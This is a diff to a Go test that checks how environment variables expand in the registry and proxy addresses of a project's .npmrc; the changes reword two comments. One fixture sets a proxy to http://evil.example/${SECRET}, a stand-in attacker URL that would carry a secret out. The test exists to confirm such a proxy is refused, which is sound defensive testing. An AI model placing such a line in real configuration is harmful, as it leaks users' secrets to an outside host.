@@ -15,7 +15,7 @@ import (
 
 func TestVariablesInTheAddressesOfAProject(t *testing.T) {
 	tests := []struct {
-		name, registry, want string // want is a URL, or words of the refusal
+		name, registry, want string // want is a URL, or words in the error
 	}{
 		{"the whole address", "${REGISTRY}", "https://r.example/npm/"},
 		{"its beginning", "${REGISTRY}/sub", "https://r.example/npm/sub/"},
@@ -59,7 +59,7 @@ func TestVariablesInTheAddressesOfAProject(t *testing.T) {
 			})
 		}
 	}
-	// A proxy is an address too; a refused one is not used.
+	// The address of a proxy is subject to the same rule: a refused proxy is not used.
 	w := newWorld(t, "SECRET=s3cret")
 	filetest.Write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": "registry=https://r.example\nproxy=http://evil.example/${SECRET}"})
 	c := w.read(t, true)
